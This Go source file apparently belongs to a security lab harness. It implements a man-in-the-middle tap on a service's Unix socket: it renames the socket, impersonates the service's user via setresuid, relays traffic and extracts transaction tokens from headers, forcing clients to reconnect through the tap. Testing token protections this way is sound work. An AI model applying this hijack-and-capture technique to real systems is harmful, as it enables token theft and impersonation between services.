package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"sync"
	"syscall"
	"time"
)

// tap sits at a socket of a service that was taken over, and keeps a transaction token that passes: what its new owner
// sees while it goes on serving. Socket and connections are the service's own user's, as they would be.
type tap struct {
	path, real string
	uid        int
	listener   net.Listener
	token      chan string // the first
}

// taps are the sockets where tokens pass as text, who connects to them, and requests that make one pass.
var taps = map[string]struct{ socket, caller, method, path, body string }{
	"ingestion":    {"app.sock", "ingestion.sidecar", http.MethodGet, "/v1/documents?limit=1", ""},
	"payments":     {"app.sock", "payments.sidecar", http.MethodGet, "/v1/account", ""},
	"notification": {"app.sock", "notification.sidecar", http.MethodPost, "/v1/documents", `{"title": "Minutes", "text": "The board agreed on Monday to publish the report."}`},
	"inference":    {"up-payments.sock", "inference", http.MethodPost, "/v1/inferences", `{"model": "langid", "input": "Guten Morgen, wie geht es Ihnen?"}`},
	"gateway":      {"up-payments.sock", "gateway", http.MethodGet, "/v1/account", ""},
}

const (
	tapWithin = 20 * time.Second
	atOnce    = 12 // requests, so that some need a new connection, unless the caller has kept very many
	bursts    = 5  // of them, before the caller's connections are broken
	maxHeader = 8 << 10
)

// transaction is a real transaction token of alice's that passes a service; "" where none can be seen: in mode native
// there is no socket, and modelstore gets none.
func (p *player) transaction(ctx context.Context, service string) (string, error) {
	where, ok := taps[service]
	if !ok || p.lab.Status.Mode != "sidecar" {
		return "", nil
	}
	ctx, cancel := context.WithTimeout(ctx, tapWithin)
	defer cancel()
	t, err := newTap(filepath.Join(p.places.Folders[service], where.socket), p.places.Users[service].UID)
	if err != nil {
		return "", fmt.Errorf("tap %s: %w", service, err)
	}
	defer t.close()
	access, err := p.lab.Token("alice")
	if err != nil {
		return "", err
	}
	client, err := p.honest()
	if err != nil {
		return "", err
	}
	defer client.CloseIdleConnections()
	for n := 1; ; n++ {
		if n == bursts { // all go by connections from before the tap. Who owns one end of them can break them
			p.restart(ctx, where.caller, tapWithin)
			if err := p.await(ctx, service); err != nil {
				return "", err
			}
		}
		var all sync.WaitGroup
		for range atOnce {
			all.Go(func() { p.request(ctx, client, access, where.method, where.path, where.body) })
		}
		all.Wait()
		select {
		case token := <-t.token:
			return token, nil
		case <-ctx.Done():
			return "", fmt.Errorf("tap %s: no transaction token passed", service)
		default:
		}
	}
}

// honest is a client as alice has one.
func (p *player) honest() (*http.Client, error) {
	pem, err := os.ReadFile(p.lab.Status.CAFile)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pem)
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS13}}}, nil
}

// request is one of an honest client's. What becomes of it is the tap's to see.
func (p *player) request(ctx context.Context, client *http.Client, access, method, path, body string) {
	req, err := http.NewRequestWithContext(ctx, method, p.lab.Status.GatewayURL+path, bytes.NewReader([]byte(body)))
	if err != nil {
		return
	}
	req.Header.Set("Authorization", "Bearer "+access)
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if res, err := client.Do(req); err == nil {
		res.Body.Close()
	}
}

func newTap(path string, uid int) (*tap, error) {
	t := &tap{path: path, real: path + ".real", uid: uid, token: make(chan string, 1)}
	if err := os.Rename(t.path, t.real); err != nil {
		return nil, err
	}
	var err error
	as(uid, func() { t.listener, err = net.Listen("unix", path) })
	if err == nil {
		t.listener.(*net.UnixListener).SetUnlinkOnClose(false)
		err = os.Chmod(path, 0o600)
	}
	if err != nil {
		t.close()
		return nil, err
	}
	go t.run()
	return t, nil
}

// close puts the real socket back. Connections that pass the tap go on.
func (t *tap) close() {
	if t.listener != nil {
		_ = t.listener.Close()
	}
	if err := os.Rename(t.real, t.path); err != nil && !errors.Is(err, fs.ErrNotExist) {
		fmt.Fprintln(os.Stderr, "put a tapped socket back:", err)
	}
}

func (t *tap) run() {
	for {
		c, err := t.listener.Accept()
		if err != nil {
			return
		}
		go t.pass(c)
	}
}

var tokenLine = regexp.MustCompile(`(?i)\r\ntxn-token: (\S+)\r\n`)

func (t *tap) pass(c net.Conn) {
	defer c.Close()
	var up net.Conn
	var err error
	as(t.uid, func() {
		if up, err = net.Dial("unix", t.real); err != nil {
			up, err = net.Dial("unix", t.path) // it was put back meanwhile
		}
	})
	if err != nil {
		return
	}
	defer up.Close()
	go func() { _, _ = io.Copy(c, up); _ = c.Close() }()
	var seen, chunk []byte = nil, make([]byte, 32<<10)
	for {
		n, err := c.Read(chunk)
		if seen = append(seen, chunk[:n]...); len(seen) > maxHeader {
			seen = seen[len(seen)-maxHeader:]
		}
		if found := tokenLine.FindSubmatch(seen); found != nil {
			select {
			case t.token <- string(found[1]):
			default:
			}
		}
		if _, werr := up.Write(chunk[:n]); err != nil || werr != nil {
			return
		}
	}
}

// as does something as another user: on a thread of its own, which ends with it.
func as(uid int, do func()) {
	if uid == os.Geteuid() || uid == 0 {
		do()
		return
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		if _, _, errno := syscall.RawSyscall(syscall.SYS_SETRESUID, uintptr(uid), uintptr(uid), uintptr(uid)); errno != 0 {
			panic(errno)
		}
		do()
	}()
	<-done
}
